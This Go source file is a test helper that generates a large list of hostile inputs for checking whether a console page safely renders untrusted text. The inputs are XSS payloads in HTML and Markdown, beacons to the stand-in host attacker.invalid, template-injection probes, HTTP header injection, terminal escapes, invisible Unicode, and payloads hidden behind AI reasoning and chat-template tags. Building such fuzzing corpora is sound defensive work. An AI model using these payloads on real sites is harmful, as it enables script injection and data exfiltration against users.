// Package consoletest has what tests of the console share: a record of real
// exchanges, and texts that attack a page.
package consoletest

import (
	"fmt"
	"strings"
)

// Origin is where hostile texts try to send something. Nothing may.
const Origin = "http://attacker.invalid"

// Hostile returns texts that attack the page that shows them: its markup, its
// Markdown, its links, its templates, its reader's eyes and its terminal. Each that
// could run sets window.hacked.
func Hostile() []string {
	var list []string
	run := "window.hacked=1"
	// Markup, also such as a lenient parser completes.
	for _, s := range []string{
		`<script>%[1]s</script>`, `<SCRIPT SRC=%[2]s/x.js></SCRIPT>`, `<scr<script>ipt>%[1]s</script>`, `</script><script>%[1]s</script>`,
		`<img src=x onerror=%[1]s>`, `<img src="%[2]s/pixel.png">`, `<IMG """><SCRIPT>%[1]s</SCRIPT>">`, `<img src=x:x onerror="%[1]s"//`,
		`<svg onload=%[1]s>`, `<svg><script>%[1]s</script></svg>`, `<svg><animate onbegin=%[1]s attributeName=x dur=1s>`, `<svg><use href="%[2]s/s.svg#x"/></svg>`,
		`<svg><a xlink:href="javascript:%[1]s"><text y="20">x</text></a></svg>`, `<svg><foreignObject><iframe src="javascript:%[1]s"></iframe></foreignObject></svg>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=%[1]s></style></mglyph></table></mtext></math>`,
		`<iframe src="javascript:%[1]s"></iframe>`, `<iframe srcdoc="<script>parent.%[1]s</script>"></iframe>`, `<object data="%[2]s/o"></object>`, `<embed src="%[2]s/e">`,
		`<link rel=stylesheet href="%[2]s/s.css">`, `<link rel=prefetch href="%[2]s/p">`, `<style>@import "%[2]s/i.css"; body{background:url(%[2]s/b)}</style>`,
		`<meta http-equiv=refresh content="0;url=%[2]s/">`, `<base href="%[2]s/">`, `<form action="%[2]s/" id=f><button autofocus onfocus=%[1]s>x</button></form>`,
		`<body onload=%[1]s>`, `<details open ontoggle=%[1]s>x</details>`, `<video src="%[2]s/v" autoplay onerror=%[1]s></video>`, `<audio src=x onerror=%[1]s>`,
		`<input autofocus onfocus=%[1]s>`, `<marquee onstart=%[1]s>x</marquee>`, `<a href="javascript:%[1]s" id=auto>x</a>`, `<div style="background:url(%[2]s/d)">x</div>`,
		`<noscript><p title="</noscript><img src=x onerror=%[1]s>"></noscript>`, `<textarea></textarea><img src=x onerror=%[1]s>`, `<title></title><script>%[1]s</script>`,
		`<template><script>%[1]s</script></template>`, `<dialog open><img src=x onerror=%[1]s></dialog>`, `<!--><script>%[1]s</script>-->`, `<![CDATA[<script>%[1]s</script>]]>`,
		`<?xml-stylesheet href="%[2]s/x.xsl"?>`, `"><script>%[1]s</script>`, `' onmouseover='%[1]s`, `" autofocus onfocus="%[1]s" x="`, `</span></div></main><script>%[1]s</script>`,
		`</textarea></title></style></script><script>%[1]s</script>`, `<a id=main name=keys>`, `<form id=login><input name=token></form>`, `<div id=list data-head=9>x</div>`,
		`<custom-element onclick=%[1]s>`, `&lt;script&gt;%[1]s&lt;/script&gt;`, `&#60;script&#62;%[1]s&#60;/script&#62;`, `<img src=x onerror=&#119;indow.hacked=1>`,
		"<img\x00 src=x onerror=%[1]s>", "<\x00script>%[1]s</script>", "<img/src=x/onerror=%[1]s>", "<img src=x\tonerror\n=%[1]s>",
	} {
		list = append(list, fmt.Sprintf(s, run, Origin))
	}
	// Markdown, which a page may render.
	for _, s := range []string{
		`![pixel](%[2]s/m.png)`, `![pixel][r]` + "\n\n" + `[r]: %[2]s/m.png`, `[x](javascript:%[1]s)`, `[x](JaVaScRiPt:%[1]s)`, `[x](java&#115;cript:%[1]s)`,
		"[x](java\nscript:%[1]s)", `[x](javascript&colon;%[1]s)`, `[x](\x6aavascript:%[1]s)`, `[x](data:text/html,<script>%[1]s</script>)`, `[x](vbscript:x)`, `[x](file:///etc/passwd)`,
		`[x](//attacker.invalid/y)`, `[x]( javascript:%[1]s "t")`, `[x](<javascript:%[1]s>)`, `<javascript:%[1]s>`, `<%[2]s/auto>`, `[![i](%[2]s/i.png)](javascript:%[1]s)`,
		`[x](%[2]s "onmouseover=%[1]s")`, `[x]: javascript:%[1]s` + "\n[x]", "```html\n<script>%[1]s</script>\n```", "`<script>%[1]s</script>`", "| <script>%[1]s</script> |\n|---|\n| ![](%[2]s/t) |",
		"<details><summary>x</summary>\n\n![](%[2]s/d)\n\n</details>", `- [ ] <input onfocus=%[1]s autofocus>`, `[^1]: <script>%[1]s</script>` + "\n\n[^1]", `**<b onmouseover=%[1]s>x</b>**`,
		"# <a name=main></a>", `<a href="%[2]s/click">x</a>`, `![a](x" onerror="%[1]s)`, `[a](x" onmouseover="%[1]s)`, "    <script>%[1]s</script>", "~~<script>%[1]s</script>~~",
		`www.attacker.invalid/%[1]s`, `http://attacker.invalid/"onmouseover=%[1]s`, `[x](sotto:x)`, `[login](login)`, `[out](../../logout)`,
	} {
		list = append(list, fmt.Sprintf(s, run, Origin))
	}
	// Templates, encodings, and text for the eyes or a terminal.
	list = append(list,
		`{{.}}`, `{{printf "%s" "<script>window.hacked=1</script>"}}`, `{{define "main"}}x{{end}}`, `{{template "frame" .}}`, `${window.hacked=1}`, `<%= 7*7 %>`, `#{7*7}`, `{% raw %}`, `{{constructor.constructor('window.hacked=1')()}}`, `[[${7*7}]]`,
		"+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-", "\xef\xbb\xbf<script>window.hacked=1</script>", "\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00", "\xc0\xbcscript\xc0\xbewindow.hacked=1", "\x1b$B<script>window.hacked=1</script>", "\x81<script>", "\xe2\x80",
		"\u202eevil\u202c txt.exe", "\u2066hidden\u2069", "user\u200b\u200c\u200d\u2060name", "\u061c\u200e\u200f", "\U000e0041\U000e0042 tags", "\ufeff\u00ad\u034f", "\u2028window.hacked=1\u2029", "\u115f\u1160\u3164", "a\u0300\u0301\u0302\u0303\u0304\u0305",
		"\x1b[2J\x1b]0;title\x07\x1b[31mred", "\x1b]8;;http://attacker.invalid\x1b\\link\x1b]8;;\x1b\\", "\x9b31m", "\r\rover", "\x08\x08\x08back", "\x7f\x80\x9f",
		"http://attacker.invalid/?q=secret", "%3Cscript%3Ewindow.hacked=1%3C/script%3E", `\u003cscript\u003ewindow.hacked=1\u003c/script\u003e`, `\x3cscript\x3e`, `"};window.hacked=1;//`, `');window.hacked=1;//`, "`;window.hacked=1;//", `*/window.hacked=1;/*`, `}body{background:url(http://attacker.invalid/c)}`,
		"data: 1\n\nevent: head\ndata: 9\n\n", "\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>window.hacked=1</script>", "Location: http://attacker.invalid/\r\n",
		strings.Repeat("<div>", 2000), strings.Repeat("> ", 2000)+"x", strings.Repeat("- ", 2000)+"x", strings.Repeat("[", 3000), strings.Repeat("*a_ ", 3000), strings.Repeat("`", 3001)+"x", strings.Repeat("![", 2000), strings.Repeat("<think>", 500), strings.Repeat("(", 3000)+strings.Repeat(")", 3000),
		strings.Repeat("| a ", 300)+"\n"+strings.Repeat("|---", 300), strings.Repeat("&#x202e;", 300), strings.Repeat("a", 20000), strings.Repeat("\n", 3000), strings.Repeat("    ", 500)+"deep", strings.Repeat("1. ", 1000)+"x", strings.Repeat("#", 200)+" x", strings.Repeat("~", 4000), strings.Repeat("\\", 4001), strings.Repeat("![a](http://attacker.invalid/p) ", 200),
		"&#x202e;evil", "&zwnj;&shy;&rlm;x", "&Tab;&NewLine;javascript&colon;window.hacked=1", "<plaintext>", "<xmp><script>window.hacked=1</script></xmp>", "<frameset onload=window.hacked=1>", "<isindex action=javascript:window.hacked=1>", "<keygen autofocus onfocus=window.hacked=1>", "<portal src=http://attacker.invalid>", "<fencedframe>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"http://attacker.invalid/s\"]}]}</script>", "<script type=importmap>{}</script>", "<link rel=manifest href=http://attacker.invalid/m>",
		"<img srcset='http://attacker.invalid/1 1x'>", "<picture><source srcset=http://attacker.invalid/2></picture>", "<video poster=http://attacker.invalid/3></video>", "<a ping=http://attacker.invalid/4 href=#x>x</a>", "<track src=http://attacker.invalid/5>", "<table background=http://attacker.invalid/6>", "<input type=image src=http://attacker.invalid/7>", "<style>a{color:red}</style>", "<p style=position:fixed;inset:0>x", "<div popover id=p><button popovertarget=p>x", "<a href=http://attacker.invalid target=_top>x</a>", "<button formaction=javascript:window.hacked=1>x</button>", "<map><area href=javascript:window.hacked=1 shape=default>", "<label for=search>x</label>", "<output name=x onforminput=window.hacked=1>",
	)
	// The same behind what a reader of replies treats in its own way.
	for _, before := range []string{"<think>", "</think>", "<output>", "<narrate>", "`", "```\n", "<think x='", "<|channel|>analysis<|message|>", "[THINK]", "◁think▷"} {
		list = append(list, before+"<img src=x onerror=window.hacked=1>", before+"![x]("+Origin+"/y)")
	}
	return list
}
